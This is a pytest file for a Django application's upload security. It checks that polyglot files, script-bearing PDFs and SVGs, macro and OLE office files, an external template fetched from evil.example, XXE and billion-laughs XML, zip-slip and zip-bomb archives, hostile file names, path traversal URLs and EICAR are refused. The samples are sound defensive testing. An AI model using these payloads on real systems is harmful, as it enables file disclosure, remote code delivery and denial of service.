"""Files: two things at once, archives that grow, documents that run or fetch, viruses, XML."""

from __future__ import annotations

import ast
import io
import re
import shutil
import socket
import struct
import subprocess
import threading
import time
import zipfile
from pathlib import Path

import pytest
from django.core.files.storage import default_storage

from gonghui.kernel.base.errors import Refusal
from gonghui.kernel.exchange.containers import inspect_workbook
from gonghui.kernel.files import scanning
from gonghui.kernel.files.models import StoredFile
from gonghui.kernel.files.purposes import Purpose
from gonghui.kernel.files.storing import store
from gonghui.kernel.files.tests.conftest import PDF_BYTES, archive, office, picture
from gonghui.kernel.files.types import DOCX, JPEG, PDF, PNG, TEXT, XLSX, ZIP, sniff
from gonghui.kernel.security.models import SecurityEvent
from gonghui.kernel.testing.settings import setting_set
from tests.security.ground import somebody

pytestmark = pytest.mark.django_db

ANY = Purpose("attack", "附件", (PDF, JPEG, PNG, XLSX, DOCX, ZIP, TEXT), 20_000_000)
# The test file every scanner knows, in two halves so that none takes offence at this source.
EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD" + "-ANTIVIRUS-TEST-FILE!$H+H*").encode()

DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
OUTWARD = (
    b'<Relationships><Relationship Id="1" TargetMode="External" Target="https://evil.example/t.dotm"'
    b' Type="http://x/attachedTemplate"/></Relationships>'
)
LINK = OUTWARD.replace(b"attachedTemplate", b"hyperlink")
MACRO_TYPE = b'<Types><Default Extension="x" ContentType="application/vnd.x.macroEnabled"/></Types>'


def typed(types: bytes, **more: bytes) -> bytes:
    return archive({"[Content_Types].xml": types, "xl/workbook.xml": b"<x/>", **more})


def overlapping() -> bytes:
    """An archive whose two entries are the same bytes."""
    made = bytearray(archive({"a": b"x" * 50, "b": b"y" * 50}))
    second = made.rindex(b"PK\x01\x02")
    made[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(made)


HOSTILE = {
    "picture that is an archive (GIFAR)": (picture() + archive({"A.class": b"x"}), "polyglot"),
    "pdf that is a page": (
        PDF_BYTES[:9] + b"<script>alert(1)</script>" + PDF_BYTES[9:],
        "polyglot",
    ),
    "pdf with a page behind it": (PDF_BYTES + b"<html><script>x</script>", "polyglot"),
    "pdf with a program behind it": (PDF_BYTES + b"MZ" * 100, "polyglot"),
    "pdf with a script": (PDF_BYTES.replace(b"<<>>", b"<</S/JavaScript/JS(x)>>"), "active"),
    "pdf with a script in disguise": (PDF_BYTES.replace(b"<<>>", b"<</J#53 (x)>>"), "active"),
    "pdf that starts a program": (PDF_BYTES.replace(b"<<>>", b"<</S /Launch /F(x)>>"), "active"),
    "drawing with a script": (b"<svg xmlns='x' onload='alert(1)'/>", "markup"),
    "drawing behind a declaration": (b"<?xml version='1.0'?><svg onload='x'/>", "markup"),
    "drawing behind a comment": (b"<!-- x --><svg onload='x'/>", "markup"),
    "workbook with macros": (office("xl/workbook.xml", **{"xl/vbaProject.bin": b"x"}), "macro"),
    "workbook that says it has macros": (typed(MACRO_TYPE), "macro"),
    "workbook of old macros": (typed(b"<Types/>", **{"xl/macrosheets/s.xml": b"x"}), "macro"),
    "document with a control": (
        office("word/document.xml", **{"word/activeX/a.xml": b"x"}),
        "object",
    ),
    "document with an object": (
        office("word/document.xml", **{"word/embeddings/oleObject1.bin": b"x"}),
        "object",
    ),
    "document that fetches a template": (
        office("word/document.xml", **{"word/_rels/settings.xml.rels": OUTWARD}),
        "external",
    ),
    "relations with an entity": (
        office("word/document.xml", **{"word/_rels/document.xml.rels": DTD}),
        "entities",
    ),
    "relations that laugh": (
        office("word/document.xml", **{"word/_rels/document.xml.rels": LAUGHS}),
        "entities",
    ),
    "archive with a program": (archive({"报名表.pdf.exe": b"MZ"}), "program"),
    "archive with a page": (archive({"index.html": b"<script>"}), "program"),
    "archive upwards": (archive({"../../etc/cron.d/x": b"x"}), "unsafe_path"),
    "archive from the root": (archive({"/etc/passwd": b"x"}), "unsafe_path"),
    "archive that shares its bytes": (overlapping(), "bomb"),
    "archive that grows": (archive({f"{n}": bytes(30_000_000) for n in range(4)}), "bomb"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_are_refused(case):
    content, code = HOSTILE[case]
    with pytest.raises(Refusal) as refused:
        sniff(io.BytesIO(content), len(content))
    assert refused.value.code == code


def test_honest_files_pass():
    for content, kind in (
        (PDF_BYTES, PDF),
        (PDF_BYTES + b"\r\n", PDF),
        (picture(), JPEG),
        (office("word/document.xml", **{"word/_rels/document.xml.rels": LINK}), DOCX),
        (archive({"名单/一季度.xlsx": b"x", "说明.txt": b"x"}), ZIP),
    ):
        assert sniff(io.BytesIO(content), len(content)) is kind


def put(content: bytes, name: str) -> StoredFile:
    return store(io.BytesIO(content), purpose=ANY, name=name, uploaded_by_id=7)


@pytest.fixture
def own_folder(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


NAMES = {
    "简历.exe.pdf": "double_extension",
    "简历.html.pdf": "double_extension",
    "a.php\x00.pdf": "double_extension",
    "a.pdf\x00.exe": "type",
    "简历.pdf.exe": "type",
    ".pdf": "name",
    "..": "name",
}


@pytest.mark.parametrize("name", NAMES)
def test_hostile_names_are_refused(name, own_folder):
    with pytest.raises(Refusal) as refused:
        put(PDF_BYTES, name)
    assert refused.value.code == NAMES[name]


@pytest.mark.parametrize(
    "name", ["../../etc/passwd.pdf", "C:\\windows\\x.pdf", "/root/x.pdf", "a\r\nSet-Cookie: x.pdf"]
)
def test_names_lose_their_paths_and_lines(name, own_folder):
    kept = put(PDF_BYTES, name).name
    assert not set(kept) & set('/\\:\r\n"')
    assert ".." not in kept


def test_a_refusal_worth_knowing_is_an_event(own_folder):
    with pytest.raises(Refusal):
        put(HOSTILE["workbook with macros"][0], "名单.xlsx")
    event = SecurityEvent.objects.get(kind="upload_refused")
    assert (event.user_id, event.facts) == (7, {"why": "macro", "purpose": "附件"})
    with pytest.raises(Refusal):
        put(b"", "名单.xlsx")
    assert SecurityEvent.objects.count() == 1


def test_pictures_are_drawn_anew(own_folder):
    stored = put(picture(comment=b"hidden words"), "照片.jpg")
    with default_storage.open(stored.path) as file:
        assert b"hidden words" not in file.read()


def test_files_are_handed_out_as_attachments(world, own_folder):
    client = somebody(world, world.factory)
    owner = int(client.session["_auth_user_id"])
    stored = put(PDF_BYTES, "章程.pdf")
    StoredFile.objects.filter(pk=stored.pk).update(uploaded_by_id=owner)
    answer = client.get(f"/files/{stored.key}/")
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert answer["Cache-Control"] == "no-store"
    b"".join(answer.streaming_content)
    assert somebody(world, world.factory).get(f"/files/{stored.key}/").status_code == 403


@pytest.mark.parametrize(
    "path",
    [
        "/static/../settings/base.py",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "/static//etc/passwd",
        "/files/../../etc/passwd",
        "/files/%2e%2e%2f%2e%2e%2fetc%2fpasswd/",
        "/static/..%5c..%5cetc%5cpasswd",
        "/static/\x00",
    ],
)
def test_paths_do_not_leave_their_folder(world, path):
    answer = somebody(world, world.province).get(path)
    assert answer.status_code in {400, 403, 404}


# XML


def workbook(tmp_path: Path, part: str, content: bytes) -> Path:
    path = tmp_path / "book.xlsx"
    entries = {
        "[Content_Types].xml": b"<Types/>",
        "xl/workbook.xml": b"<workbook/>",
        "xl/_rels/workbook.xml.rels": b"<Relationships/>",
        part: content,
    }
    with zipfile.ZipFile(path, "w") as made:
        for name, text in entries.items():
            made.writestr(name, text)
    return path


@pytest.mark.parametrize("content", [DTD, LAUGHS], ids=["entity", "laughs"])
@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/s.xml"])
def test_workbooks_with_entities_are_not_read(tmp_path, part, content):
    with pytest.raises(Refusal):
        inspect_workbook(workbook(tmp_path, part, content))


SOURCE = Path(__file__).parents[2] / "src" / "gonghui"
BUILDING = {"ParseError", "Element", "SubElement", "tostring", "ElementTree"}
"""What may be taken from the standard library: it writes XML safely, it does not read it so."""
ESCAPING = {"escape", "quoteattr"}
READERS = {"xml", "lxml"}


def readers_of(text: str) -> set[str]:
    """Names of XML readers a source imports that would follow entities."""
    found: set[str] = set()
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.Import):
            found |= {alias.name for alias in node.names if alias.name.split(".")[0] in READERS}
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in READERS:
            safe = BUILDING if node.module == "xml.etree.ElementTree" else ESCAPING
            found |= {alias.name for alias in node.names} - safe
    # The module itself may be taken to write with, as long as nothing is read with it.
    if not re.search(r"\bElementTree\.(fromstring|parse|iterparse|XML|XMLParser)\b", text):
        found -= {"ElementTree"}
    return found


OWN_READERS = {"kernel/process/diagram.py"}
"""SpiffWorkflow walks lxml's trees: one function reads them, and refuses document types."""


def test_xml_is_read_by_defusedxml_alone():
    unsafe = {
        str(path.relative_to(SOURCE)): names
        for path in SOURCE.rglob("*.py")
        if "tests" not in path.parts and (names := readers_of(path.read_text("utf-8")))
    }
    assert set(unsafe) == OWN_READERS, unsafe
    assert readers_of("from xml.etree.ElementTree import fromstring") == {"fromstring"}
    reading = "from xml.etree import ElementTree\nElementTree.fromstring(x)"
    assert readers_of(reading) == {"ElementTree"}
    assert readers_of("import lxml.etree") and readers_of("from xml.dom import minidom")


# Viruses


class FakeClamd(threading.Thread):
    """Speaks clamd's INSTREAM as the manual says and knows one virus. A fake, for tests alone."""

    def __init__(self, answer: bytes | None = None) -> None:
        super().__init__(daemon=True)
        self.answer = answer
        self.taken = b""
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self.socket.getsockname()[1]}"

    def run(self) -> None:
        while True:
            try:
                link, _ = self.socket.accept()
            except OSError:
                return
            with link, link.makefile("rb") as lines:
                assert lines.read(10) == b"zINSTREAM\0"
                self.taken = b""
                while length := struct.unpack(">I", lines.read(4))[0]:
                    self.taken += lines.read(length)
                found = EICAR in self.taken
                said = b"stream: Eicar-Test-Signature FOUND\0" if found else b"stream: OK\0"
                link.sendall(self.answer if self.answer is not None else said)

    def close(self) -> None:
        self.socket.close()


@pytest.fixture
def clamd():
    fake = FakeClamd()
    fake.start()
    yield fake
    fake.close()


def test_clean_files_are_marked_clean(clamd, own_folder):
    with setting_set(scanning.CLAMD, clamd.address):
        assert put(PDF_BYTES, "章程.pdf").scan == StoredFile.Scan.CLEAN
    assert clamd.taken == PDF_BYTES


def test_infected_files_are_put_aside_and_told(clamd, own_folder):
    with setting_set(scanning.CLAMD, clamd.address), pytest.raises(scanning.Infected):
        put(EICAR, "名单.txt")
    assert not StoredFile.objects.exists()
    event = SecurityEvent.objects.get(kind="upload_refused")
    assert (event.severity, event.facts["virus"]) == ("serious", "Eicar-Test-Signature")
    with default_storage.open(f"quarantine/{event.facts['sha256']}") as kept:
        assert kept.read() == EICAR


def test_without_a_scanner_files_are_marked_unscanned(own_folder):
    assert put(EICAR, "名单.txt").scan == StoredFile.Scan.NOT_SCANNED


@pytest.mark.parametrize("answer", [b"", b"INSTREAM size limit exceeded. ERROR\0", b"UNKNOWN\0"])
def test_a_scanner_that_is_away_refuses_or_marks_as_set(answer, own_folder):
    fake = FakeClamd(answer)
    fake.start()
    with setting_set(scanning.CLAMD, fake.address):
        with pytest.raises(Refusal) as refused:
            put(PDF_BYTES, "章程.pdf")
        assert refused.value.code == "scanner_away"
        with setting_set(scanning.WHEN_AWAY, "accept"):
            assert put(PDF_BYTES, "章程.pdf").scan == StoredFile.Scan.NOT_SCANNED
    fake.close()
    with setting_set(scanning.CLAMD, fake.address), pytest.raises(Refusal):
        put(PDF_BYTES, "章程.pdf")


@pytest.mark.skipif(not shutil.which("clamd"), reason="clamd is not installed")
def test_the_real_daemon_understands_us(tmp_path, own_folder):
    """ClamAV itself, with one signature of our own for its test file."""
    socket_path = tmp_path / "clamd.sock"
    (tmp_path / "db").mkdir()
    (tmp_path / "db" / "ours.ndb").write_text(f"Ours.Eicar:0:*:{EICAR.hex()}\n")
    config = tmp_path / "clamd.conf"
    config.write_text(
        f"LocalSocket {socket_path}\nDatabaseDirectory {tmp_path / 'db'}\nForeground yes\n"
    )
    daemon = subprocess.Popen(
        ["clamd", "--config-file", str(config)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        for _ in range(300):
            if socket_path.exists() or daemon.poll() is not None:
                break
            time.sleep(0.1)
        with setting_set(scanning.CLAMD, f"unix:{socket_path}"):
            assert put(PDF_BYTES, "章程.pdf").scan == StoredFile.Scan.CLEAN
            with pytest.raises(scanning.Infected) as found:
                put(EICAR, "名单.txt")
        assert found.value.virus.startswith("Ours.Eicar")
    finally:
        daemon.terminate()
        daemon.wait(10)
